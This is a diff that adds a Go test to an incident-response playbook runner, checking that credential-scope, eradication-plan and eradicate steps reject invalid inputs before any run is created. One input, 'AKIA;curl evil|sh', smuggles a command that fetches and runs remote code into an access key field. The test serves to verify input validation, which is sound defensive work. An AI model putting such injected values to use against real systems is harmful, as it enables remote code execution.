@@ -787,3 +787,55 @@ steps:
 		t.Fatalf("the step ran %d times: %v", len(marks), marks)
 	}
 }
+
+// TestOperationStepsRefuseHostileInputsBeforeAnyRun: operation steps run
+// on the controller through the eradication service; a key or plan from
+// the inputs (or a finding) that is not one fails its step with the
+// reason, and no run is created.
+func TestOperationStepsRefuseHostileInputsBeforeAnyRun(t *testing.T) {
+	f := newFleet(t, 1, map[string]string{"ops": pb("ops", `
+inputs:
+  - {name: key, type: string, required: true}
+  - {name: plan, type: string, required: true}
+steps:
+  - id: scope
+    phase: analyze
+    operation: credential-scope
+    params: {access_key_id: "${{ inputs.key }}"}
+    on_failure: continue
+  - id: plan
+    needs: [scope]
+    phase: eradicate
+    operation: eradication-plan
+    on_failure: continue
+  - id: eradicate
+    needs: [plan]
+    phase: eradicate
+    operation: eradicate
+    approval: required
+    params: {plan_id: "${{ inputs.plan }}"}
+    on_failure: continue
+`)})
+	r := f.wait(t, f.start(t, "ops", map[string]any{"key": "AKIA;curl evil|sh", "plan": "erp-nope"}).ID)
+	want := map[string]string{
+		"scope":     `invalid operation: "AKIA;curl evil|sh" is not an AWS access key id (AKIA… or ASIA…)`,
+		"plan":      "has no scope with attacker artifacts",
+		"eradicate": "reading plan erp-nope: not found",
+	}
+	for id, w := range want {
+		st := r.Step(id)
+		if st.Status != playbookrun.StepFailed || !strings.Contains(st.Error, w) {
+			t.Errorf("step %s: %s %q, want failed saying %q", id, st.Status, st.Error, w)
+		}
+		if st.RunID != "" || st.Action != "operation:"+map[string]string{"scope": "credential-scope", "plan": "eradication-plan", "eradicate": "eradicate"}[id] {
+			t.Errorf("step %s: action %q run %q; want the operation and no run", id, st.Action, st.RunID)
+		}
+	}
+	list, err := f.c.Operator.ListRuns(playbookruntest.Admin(context.Background()), &operatorv1.ListRunsRequest{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := len(list.GetRuns()); n != 0 {
+		t.Fatalf("%d run(s) created: want none", n)
+	}
+}
